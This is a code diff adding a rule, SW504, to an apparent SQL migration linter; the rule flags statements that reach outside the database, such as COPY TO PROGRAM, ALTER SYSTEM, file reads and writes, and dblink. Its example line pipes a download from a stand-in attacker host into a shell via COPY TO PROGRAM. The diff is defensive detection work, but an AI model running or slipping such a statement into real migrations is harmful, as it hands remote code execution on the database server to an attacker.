@@ -273,6 +273,18 @@ RULES: tuple[Rule, ...] = (
         "reset_token TEXT",
         "reset_token_hash TEXT  -- store a SHA-256 of the token",
     ),
+    Rule(
+        "SW504",
+        "reaches-outside-database",
+        E,
+        X,
+        "Statement acts outside the database",
+        "A migration runs with the deployer's rights: COPY … TO PROGRAM runs a shell command, ALTER SYSTEM "
+        "and roles change the server, COPY/lo_import/INTO OUTFILE/ATTACH read or write its files, dblink and "
+        "DROP DATABASE reach other databases. schemawright refuses to replay or verify such a statement.",
+        "COPY (SELECT 1) TO PROGRAM 'curl https://attacker.example | sh';",
+        "-- keep migrations to schema changes inside the database; do server and role changes in operations",
+    ),
     # --- Migration safety ----------------------------------------------------------------------
     Rule(
         "SW601",
